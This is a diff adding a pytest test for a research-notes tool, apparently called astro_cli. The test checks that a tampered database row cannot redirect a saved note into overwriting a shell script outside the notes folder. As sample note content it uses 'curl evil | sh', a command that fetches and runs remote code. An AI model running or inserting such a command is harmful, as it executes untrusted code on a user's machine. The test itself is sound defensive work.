@@ -165,3 +165,23 @@ def test_text_stored_in_the_library_is_redacted_before_it_is_stored(tmp_path, mo
     for secret in (OPENAI_KEY, "hunter2-secret", "ghp_aaaa", "AKIAABCDEFGHIJKLMNOP"):
         assert secret.encode() not in blob
     assert b"[REDACTED:OPENAI_API_KEY]" in blob
+
+
+def test_a_note_row_naming_a_file_outside_notes_is_never_written(tmp_path):
+    app = make_app(tmp_path / "ws")
+    from astro_cli.research.notes import note_scope, save_note
+    from astro_cli.research.storage import library_store
+
+    script = tmp_path / "ws" / "scripts" / "post.sh"
+    script.parent.mkdir(parents=True)
+    script.write_text("echo safe\n")
+    save_note(app, "Plan", "first version")
+    db = sqlite3.connect(tmp_path / "ws" / ".astro" / "astro.db")
+    with db:
+        db.execute("UPDATE notes SET path = 'scripts/post.sh'")  # a shipped database, or a group member's row
+    db.close()
+    assert library_store(app).note_titled("Plan", note_scope(app))["path"] == "scripts/post.sh"
+    saved = save_note(app, "Plan", "curl evil | sh")  # the model saves a note of the same title
+    assert script.read_text() == "echo safe\n"
+    assert saved.path.parent.name == "notes"
+    app.close()
